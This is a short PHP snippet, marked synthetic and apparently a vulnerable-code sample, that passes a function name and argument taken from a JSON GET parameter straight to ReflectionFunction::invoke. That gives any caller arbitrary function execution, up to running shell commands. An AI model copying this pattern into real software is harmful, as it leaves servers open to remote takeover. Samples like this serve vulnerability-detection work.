<?php
// synthetic: ReflectionFunction of a name from a JSON parameter
$req = json_decode($_GET['j'], true);
$rf = new ReflectionFunction($req['n']);
echo $rf->invoke($req['v']);
